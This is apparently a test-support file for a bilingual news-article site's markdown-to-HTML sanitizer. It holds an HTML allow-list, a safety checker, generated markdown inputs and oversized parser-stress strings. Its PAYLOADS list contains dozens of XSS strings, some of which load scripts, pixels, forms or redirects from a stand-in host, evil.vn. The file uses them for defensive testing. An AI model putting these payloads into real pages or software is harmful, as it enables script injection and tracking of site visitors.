"""Markdown texts for tests: hostile, generated and excessive; an article that holds one; what its HTML may hold."""

import re

import lxml.html
from hypothesis import strategies as st

from khotin.content.articles import Article, Provenance
from khotin.languages import Bilingual

ALLOWED = {
    "a": {"href", "title", "id"},
    "img": {"src", "alt", "title"},
    "ol": {"start", "id"},
    "th": {"scope"},
    "div": {"class", "id"},
}
EVERYWHERE = {"id"}
TAGS = set(
    """
        p h2 h3 h4 ul ol li blockquote table thead tbody tr th td em strong code pre a img br hr sup sub div figure
        figcaption
    """.split()
)
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.vn/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p onclick=alert(1)>x</p>",
    "<p/onmouseover=alert(1)>x</p>",
    "<img src=x onerror=alert(1)>",
    "<img src='//evil.vn/pixel.gif'>",
    "<img srcset='https://evil.vn/x.png 2x'>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='https://evil.vn/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.vn/'><input name=q><button>x</button></form>",
    "<base href='https://evil.vn/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.vn/'>",
    "<link rel=stylesheet href='https://evil.vn/x.css'>",
    "<style>body { background: url(https://evil.vn/) }</style>",
    "<p style='background: url(https://evil.vn/)'>x</p>",
    "<frameset><frame src='https://evil.vn/'></frameset>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<video src='https://evil.vn/x.mp4' autoplay onloadstart=alert(1)></video>",
    "<audio src='https://evil.vn/x.mp3'></audio>",
    "<details ontoggle=alert(1) open>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action='javascript:alert(1)'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.vn/)",
    "[x](/\\evil.vn/)",
    "[x](\\\\evil.vn/)",
    "[x](/\t/evil.vn/)",
    "[x](https:evil.vn)",
    "[x](https:/\\evil.vn)",
    "[x](magnet:?xt=urn:btih:1)",
    '[x](https://a.vn "x\\" onclick=alert(1) \\"")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.vn/pixel.gif)",
    "![x](//evil.vn/pixel.gif)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x"onerror=alert(1)](a.jpg)',
    "<p id=main class=site-header>x</p>",
    "<h2 id='__proto__'>x</h2>",
    "<a name=main id=main href='#main'>x</a>",
    "<div class='visually-hidden'>x</div>",
    "{{ config }} {% include 'x' %} {# x #}",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
]
PIECES = st.sampled_from(
    [
        "Đài truyền thanh",
        "126 trạm",
        " ",
        "\n",
        "\n\n",
        "*",
        "**",
        "_",
        "`",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "&",
        "&amp;",
        "<b>",
        "</b>",
        "<div>",
        "\\",
        "#",
        "## ",
        "1. ",
        "- ",
        "> ",
        "    ",
        "  \n",
        "!",
        "|",
        "---",
        "===",
        "[^1]",
        "[^1]: x",
        "https://a.vn/",
        "<!--",
        "-->",
        ":",
        "ảnh.jpg",
        "\x02",
        "&#",
    ]
)
TEXTS = st.lists(PIECES, max_size=24).map("".join)


def parse(html):
    return lxml.html.fragment_fromstring(str(html), create_parent="main")


def make_article(body, english=None):
    empty = Bilingual("", "")
    return Article(
        id="2022-06-15-a",
        path="content/articles/2022-06-15-a.md",
        title=empty,
        summary=empty,
        published="2022-06-15",
        event=None,
        event_end=None,
        province=None,
        district=None,
        topics=(),
        mentions=(),
        authors=(),
        offices=(),
        dateline=None,
        source=Provenance(),
        figures=(),
        status="published",
        drafted=(),
        pending=(),
        reviewed=None,
        added=None,
        aliases=(),
        corrections=(),
        withdrawal=None,
        accepted=(),
        removed=(),
        body=body,
        body_line=20,
        english_body=english,
    )


def check_safe(html):
    for element in parse(html).iterdescendants():
        assert element.tag in TAGS
        assert set(element.keys()) <= ALLOWED.get(element.tag, set()) | EVERYWHERE
        assert element.get("class") in (None, "", "footnote")
        assert "src" not in element.attrib, "no picture is published with the text"
        if address := element.get("href"):
            assert re.match(r"https?://[^/\\]|mailto:|tel:|/(vi|en)/|#p", address), address
        if identity := element.get("id"):
            assert identity.startswith("p")


HEAVY = {
    "brackets": "[" * 300_000,
    "pictures": "![" * 100_000,
    "tags": "<a " * 90_000,
    "marked sections": "<![CDATA[" * 20_000,
    "comments": "<!--" * 50_000,
    "headings": "a\n===\n" * 40_000,
    "hashes": "# a\n" * 60_000,
    "deep lists": "\n".join("    " * i + "- a" for i in range(300)),
    "deep quotes": "> " * 60_000 + "a",
    "tight quotes": ">" * 200_000 + "a",
    "markers": "* " * 500 + "a",
    "hyphens": "- " * 500 + "a",
    "pluses": "+ " * 500 + "a",
    "numbers": "1. " * 500 + "a",
    "quotations": "> " * 500,
    "mixed markers": "1. > - + * " * 100 + "a",
    "indented markers": "    " * 5 + "- " * 30 + "a",
    "many markers": ("- " * 15 + "a\n") * 8000,
    "stars": "*a " * 80_000,
    "emphasis": "*a* **b** " * 25_000,
    "50,000 words": " ".join(["*chữ*"] * 50_000),
    "underscores": "_a_ b " * 40_000,
    "both": "*_" * 100_000,
    "many paragraphs of emphasis": ("*a* " * 2000 + "\n\n") * 30,
    "entities": "&#x41;" * 40_000,
    "ands": "&a" * 120_000,
    "slashes": "\\" * 10_000,
    "ticks": "`a ``b " * 35_000,
    "codes": "`a` " * 60_000,
    "lengths of ticks": "".join("`" * number + "a" for number in range(700)),
    "blanks": " " * 100_000 + "a",
    "lines": "a\n" * 100_000,
    "bars": "a|b\n-|-\n" + "`|" * 60_000,
    "wide table": "a|" * 450 + "\n" + "-|" * 450 + "\n" + "b\n" * 9000,
    "fences": "```\n~~~\n" * 2000,
    "notes": "".join(f"x[^{i}] " for i in range(9000)) + "\n\n" + "".join(f"[^{i}]: a\n" for i in range(9000)),
}
